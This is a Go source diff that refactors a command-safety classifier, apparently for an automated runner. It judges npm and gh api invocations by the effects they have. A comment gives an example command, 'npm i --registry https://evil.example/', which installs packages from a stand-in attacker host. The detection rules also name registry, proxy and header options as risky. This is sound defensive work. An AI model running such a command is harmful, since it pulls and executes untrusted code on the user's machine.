@@ -286,8 +286,7 @@ func init() {
 // every command that asks the registry sends what is in it.
 func computedRegistry(r *Result) {
 	for _, it := range r.Items {
-		if it.Kind == KindValue && it.Opt != nil && it.computedText() &&
-			(slices.Contains(it.Opt.Long, "registry") || slices.Contains(it.Opt.Long, "proxy") || slices.Contains(it.Opt.Long, "https-proxy")) {
+		if it.ValueOf("registry", "proxy", "https-proxy") && it.computedText() {
 			r.Effects |= EffExternal
 			r.Findings = append(r.Findings, Finding{Effect: EffExternal, Word: it.Word, Why: whyComputedRequest})
 			return
@@ -309,7 +308,7 @@ func judgeNpmPrefix(r *Result, words []string) {
 	nOps, first := 0, -1 // the operands, without allocating: a runner's every decision comes here
 	for k, it := range r.Items {
 		switch {
-		case it.Opt != nil && it.Kind == KindValue && slices.Contains(it.Opt.Long, "prefix"):
+		case it.ValueOf("prefix"):
 			prefix = it.Word
 		case it.Kind == KindSubcommand && (it.Text == "link" || it.Text == "ln"):
 			link = true
@@ -668,7 +667,7 @@ func remoteInstall(r *Result, words []string) {
 		return
 	}
 	for _, it := range r.Items {
-		if it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "registry") && (it.Computed || !defaultIndex(it.Text)) {
+		if it.ValueOf("registry") && (it.Computed || !defaultIndex(it.Text)) {
 			// npm i --registry https://evil.example/ x: the packages come
 			// from where the command says.
 			r.Effects |= EffExec | EffComputed
@@ -1102,12 +1101,11 @@ func ghAPI(s *Spec) {
 			switch {
 			case it.computedText():
 				return
-			case it.Kind == KindValue && it.Opt != nil && slices.Contains(it.Opt.Long, "method"):
+			case it.ValueOf("method"):
 				if m := strings.ToUpper(it.Text); m != "GET" && m != "HEAD" {
 					return
 				}
-			case it.Kind == KindValue && it.Opt != nil && (slices.Contains(it.Opt.Long, "raw-field") || slices.Contains(it.Opt.Long, "field") ||
-				slices.Contains(it.Opt.Long, "input") || slices.Contains(it.Opt.Long, "header") || slices.Contains(it.Opt.Long, "hostname")):
+			case it.ValueOf("raw-field", "field", "input", "header", "hostname"):
 				return
 			case it.Kind == KindOperand && it.Spec == s:
 				operands++
